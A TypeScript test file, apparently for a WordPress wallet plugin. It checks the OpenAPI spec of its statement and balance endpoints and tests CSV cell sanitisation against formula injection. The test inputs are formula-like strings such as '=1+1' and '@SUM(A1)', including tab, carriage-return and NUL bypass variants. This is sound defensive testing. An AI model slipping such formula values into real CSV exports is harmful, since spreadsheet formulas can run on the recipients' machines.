    const statements = doc.paths["/wp-json/wallet/v1/statements"].get;
    expect(statements.parameters.map((p: Json) => p.name ?? p.$ref)).toEqual([
      "#/components/parameters/Bookmark",
      "user_id",
      "wallet_id",
      "from",
      "to",
      "page",
      "per_page",
      "pageno",
      "format",
    ]);
    expect(Object.keys(statements.responses["200"].content)).toEqual([
      "application/json",
      "text/csv",
    ]);
    expect(statements.responses["429"]["x-error-codes"]).toEqual(["history_busy"]);
    const balance = doc.paths["/wp-json/wallet/v1/user-wallet-balance"].get;
    expect(balance.parameters.map((p: Json) => p.name)).toContain("at");
    expect(Object.keys(balance.responses["200"].content)).toEqual(["application/json"]);
  });
});

describe("CSV cells", () => {
  it("prefix a text cell that begins like a formula with a single quote, and no other", () => {
    for (const text of ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "-"])
      expect(textCell(text)).toBe(`'${text}`);
    for (const text of ["", "rent", " =1", "1-2", "'=x", "a=b"]) expect(textCell(text)).toBe(text);
  });

  it("quote a formula where a reader splitting at ';', a tab or a line break starts a cell", () => {
    expect(textCell("refund;=1+2")).toBe("refund;'=1+2");
    expect(textCell("a\t-1;@b")).toBe("a\t'-1;'@b");
    expect(textCell("a\t\t=1")).toBe("a\t'\t'=1");
    expect(textCell("line\r\n=1+2\n+3")).toBe("line\r\n'=1+2\n'+3");
    expect(textCell("=a;=b")).toBe("'=a;'=b");
    // A cell that begins with a tab or a carriage return: that character is quoted, and the formula
    // after it too, where a reader splitting there starts a cell.
    expect(textCell("\t=1+2")).toBe("'\t'=1+2");
    expect(textCell("\r-2+3")).toBe("'\r'-2+3");
    expect(textCell("\t@SUM(A1)")).toBe("'\t'@SUM(A1)");
    for (const text of ["a; =1", "a;b=1", "a,=1", "1;2"]) expect(textCell(text)).toBe(text);
  });

  it("prefix a text cell that begins with a NUL, which a reader may drop before a formula (ASVS 5 V1.2.10)", () => {
    for (const text of ["\0=1+1", "\0", "\0rent"]) expect(textCell(text)).toBe(`'${text}`);
    expect(textCell("a\0=1")).toBe("a\0=1");
  });

  it("keep an amount a plain signed decimal and treat anything else in its place as text", () => {
    for (const text of ["0", "12.50", "-12.50", "1500.000", "-0.001"])
      expect(numberCell(text)).toBe(text);
    for (const text of ["-1+1", "-12.50)", "+12", "-", "-.5", "1e3"])
      expect(numberCell(text)).toBe(textCell(text));
    expect(numberCell("-1+1")).toBe("'-1+1");
  });
});
